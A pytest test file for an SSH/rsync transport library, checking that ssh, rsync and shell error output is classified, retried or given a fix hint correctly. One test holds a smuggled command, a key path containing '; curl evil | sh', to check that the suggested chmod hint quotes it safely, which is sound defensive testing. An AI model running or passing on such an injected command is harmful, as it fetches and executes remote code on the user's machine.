"""
Texts that `ssh`, `sshd`, rsync and shells have printed, read by the way that a failed copy or login takes.

`tests/data/errors.jsonl` was collected from the field, `more_errors.jsonl` from the programs and their sources.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any, NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ssh_transport.box.carrier.login_log import LoginLog, fault
from ssh_transport.errors import HostKeyChanged, HostKeyUnknown, TaskError, ToolMissing, symptoms
from ssh_transport.errors.symptoms.meaning import SYMPTOMS
from ssh_transport.link.persist import Patience, persist
from ssh_transport.platforms import diagnosis, profiles
from ssh_transport.transfer.rsync import outcome

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ssh_transport.errors.symptoms.symptom import Symptom

REQUEST: Any = SimpleNamespace(
    source=SimpleNamespace(name="proj-1", path="/ckpt", is_here=False),
    target=SimpleNamespace(name="", path="ckpt", is_here=True),
)
# How the field calls a known problem that had no id then.
IDS = {
    "mac": "N4",
    "key broken": "K1",
    "key mode": "K2",
    "cfg mode": "K6",
    "rsa-sha1": "K5",
    "agent": "K4",
    "shell": "E1",
    "openrsync": "E3",
}
# Of those to which the field gave none.
CLASSES = {
    "cloudflared": "ToolMissing",
    "PTY allocation": "EndpointTooWeak",
    "too long 4589": "CommandFailed",
    "out of memory": "CommandFailed",
    "python3": "ToolMissing",
    "shell clean": "CommandFailed",
    "libcrypto.so.1.1": "ToolMissing",
}
CURABLE = {"Dropped", "LinkLost", "Refused", "Unreachable", "NameNotFound"}
PLATFORMS = {"R": "runpod", "L": "lambda"}
NOISE = [
    "/root/.bashrc: line 7: conda: command not found",
    "/etc/profile.d/gpu.sh: line 3: nvidia-smi: command not found",
    "/root/.zshrc:12: command not found: conda",
    "bash: warning: setlocale: LC_ALL: cannot change locale (en_US.UTF-8)",
    "touch: cannot touch '/root/.cache/x': Permission denied",
    "history: cannot create temp file: No space left on device",
    "Warning: Permanently added '[203.0.113.7]:22100' (ED25519) to the list of known hosts.",
    "Could not chdir to home directory /home/me: No such file or directory",
    "X11 forwarding request failed on channel 0",
    '/etc/ssh/ssh_config line 53: Unsupported option "rsaauthentication"',
    "git@github.com: Permission denied (publickey).",
    "Welcome to vast.ai. If authentication fails, try again after a few seconds, and double check your ssh key.",
    "### Whoever gets `Permission denied (publickey)`: ask the operator ###",
    "Pseudo-terminal will not be allocated because stdin is not a terminal.",
    "** WARNING: connection is not using a post-quantum key exchange algorithm.",
]


class Text(NamedTuple):
    code: int
    stderr: str
    classes: set[str]
    problem: str
    names: str
    is_permanent: bool


def _texts() -> Iterator[Text]:
    for name in ("errors.jsonl", "more_errors.jsonl"):
        for line in Path(__file__, "../../../data", name).resolve().read_text(encoding="utf-8").splitlines():
            row = json.loads(line)
            trap = row.get("trap", "")
            classes = row.get("class") or [cls for part, cls in CLASSES.items() if part in row["stderr"]]
            found = {cls.removesuffix("(local)") for cls in classes}
            is_permanent = row.get("permanent", not found & CURABLE) or "permanent Control" in row.get("note", "")
            yield Text(row["exit_code"], row["stderr"], found, IDS.get(trap, trap), row.get("names", ""), is_permanent)


TEXTS = [*_texts()]
FOR_GOOD = re.compile(symptoms.for_good().encode(), re.MULTILINE)
SAID_BY_SSH = [text for text in TEXTS if text.code == 255 and "rsync" not in text.stderr]


def _failure(text: Text, before: str = "") -> TaskError:
    error = outcome.failure("proj-1", REQUEST, "ckpt", text.code, before + text.stderr)
    profile = profiles.named(PLATFORMS.get(text.problem[:1], "generic"))
    diagnosis.explain(error, profile, "proj-1")
    return error


def _name(text: Text) -> str:
    return f"{text.code} {text.stderr[:60]}"


def test_there_is_something_to_read() -> None:
    assert len(TEXTS) > 200
    assert len(SAID_BY_SSH) > 50
    assert all(text.classes for text in TEXTS)


@pytest.mark.parametrize("text", TEXTS, ids=_name)
def test_a_failed_copy_is_told_as_what_it_is(text: Text) -> None:
    error = _failure(text)

    assert type(error).__name__ in text.classes
    assert error.cause
    if text.problem:
        assert error.known_problem
        assert error.known_problem.id == text.problem
    if text.names:
        assert text.names in error.what


@pytest.mark.parametrize("text", [text for text in TEXTS if text.is_permanent], ids=_name)
def test_what_stays_is_tried_once_and_is_called_no_broken_link(text: Text) -> None:
    tried = []

    def attempt(number: int) -> None:
        tried.append(number)
        raise _failure(text)

    with pytest.raises(TaskError) as caught:
        persist(attempt, Patience(attempts=5, give_up_after_s=1e9, sleep=lambda _: None))

    assert tried == [1]
    assert "broke" not in caught.value.what
    assert "gave up on" not in caught.value.what


@pytest.mark.parametrize("text", [text for text in TEXTS if not text.is_permanent], ids=_name)
def test_what_passes_is_tried_again(text: Text) -> None:
    """But for a disk, a file or an option, which are no link's."""
    tried = []

    def attempt(number: int) -> None:
        tried.append(number)
        if number == 1:
            raise _failure(text)

    persist(attempt, Patience(attempts=5, give_up_after_s=1e9, sleep=lambda _: None))

    assert tried == [1, 2]


@pytest.mark.parametrize("text", TEXTS, ids=_name)
def test_noise_of_a_login_chooses_neither_the_class_nor_the_known_problem(text: Text) -> None:
    """With either end of a line."""
    alone = _failure(text)

    for noise in ("\n".join(NOISE) + "\n", "\r\n".join(reversed(NOISE)) + "\r\n\r\n"):
        with_noise = _failure(text, noise)
        assert type(with_noise) is type(alone)
        assert with_noise.known_problem == alone.known_problem
        assert with_noise.is_permanent == alone.is_permanent


@pytest.mark.parametrize("text", SAID_BY_SSH, ids=_name)
def test_a_failed_login_is_told_alike(text: Text) -> None:
    """By the words of `ssh` in its log; a broken link that was never whole is no drop of a copy."""
    error = fault("proj-1", LoginLog(text.stderr), "", proxied=False, declined="")
    # Nobody has greeted us: whether there is a server at all is not known.
    alike = {"LinkLost", "Unreachable"} if "Dropped" in text.classes else set()

    assert type(error).__name__ in text.classes | alike
    assert error.is_permanent == text.is_permanent


@pytest.mark.parametrize("text", [text for text in SAID_BY_SSH if text.is_permanent], ids=_name)
def test_what_stays_ends_the_logins_of_a_striped_link(text: Text) -> None:
    """What is said of a session, or by a shell, is not of the login."""
    found = symptoms.meaning(text.stderr)

    assert found
    if found.symptom.stage in {"session", "program", "proxy", "start-up files"}:
        return
    assert FOR_GOOD.search(text.stderr.encode())


@pytest.mark.parametrize("text", [text for text in SAID_BY_SSH if not text.is_permanent], ids=_name)
def test_what_passes_leaves_a_striped_link_its_logins(text: Text) -> None:
    assert not FOR_GOOD.search(text.stderr.encode())


@pytest.mark.parametrize("symptom", SYMPTOMS, ids=lambda symptom: symptom.pattern[:40])
def test_each_symptom_has_a_cause_in_one_sentence_and_a_hint(symptom: Symptom) -> None:
    """But for an end without a reason, of which nobody knows one."""
    assert "\n" not in symptom.cause + symptom.what + symptom.hint
    assert symptom.hint
    assert symptom.cause or symptom.says_little


@pytest.mark.parametrize("line", ["rsync --server .", "exec rsync --server .", "/no/where/rsync --server ."])
@pytest.mark.parametrize("shell", ["dash", "bash", "zsh", "ksh", "fish", "tcsh", "busybox"])
def test_a_shell_of_this_machine_that_finds_no_rsync(shell: str, line: str, tmp_path: Path) -> None:
    """In its own words, whatever its version."""
    program = shutil.which(shell)
    assert program
    argv = [program, *(["sh"] if shell == "busybox" else []), "-c", line]
    environment = {"PATH": str(tmp_path), "HOME": str(tmp_path)}
    done = subprocess.run(argv, capture_output=True, text=True, check=False, env=environment, cwd=tmp_path)
    closed = "rsync: connection unexpectedly closed (0 bytes received so far) [Receiver]"

    for code in (12, 127):
        error = outcome.failure("proj-1", REQUEST, "ckpt", code, f"{done.stderr}{closed}")
        assert type(error) is ToolMissing
        assert error.what == "no rsync on the box"


def test_an_unknown_host_key_is_not_a_changed_one() -> None:
    unknown = symptoms.meaning("No ED25519 host key is known for h and you have requested strict checking.")
    changed = symptoms.meaning("Host key for h has changed and you have requested strict checking.")

    assert unknown
    assert changed
    assert (unknown.symptom.error, changed.symptom.error) == (HostKeyUnknown, HostKeyChanged)


def test_a_path_that_a_box_chose_can_be_pasted() -> None:
    said = "Permissions 0644 for '/x; curl evil | sh' are too open.\nme@h: Permission denied (publickey)."
    found = symptoms.meaning(said)

    assert found
    assert found.error("proj-1").hint == "chmod 600 '/x; curl evil | sh'"


def test_what_a_box_floods_us_with_is_told_in_two_lines() -> None:
    flood = "".join(
        f"rsync: connection unexpectedly closed ({number} bytes received so far)\n" for number in range(9999)
    )
    found = symptoms.meaning(f"rsync: not found\n{flood}{'x' * 1_000_000}")

    assert found is None
    found = symptoms.meaning(f"{flood}rsync: {'y' * 70_000}: not found\n{flood}")
    assert found
    assert len(str(found.error("proj-1"))) < 2_000


@given(st.lists(st.one_of(st.text(), st.sampled_from([text.stderr for text in TEXTS])), max_size=12), st.integers())
def test_any_text_is_told_somehow(parts: list[str], code: int) -> None:
    """Nothing that a box can say is a fault of ours, or longer than a person would read."""
    found = symptoms.meaning("\n".join(parts), code)

    assert found is None or 0 < len(str(found.error("proj-1"))) < 8_000
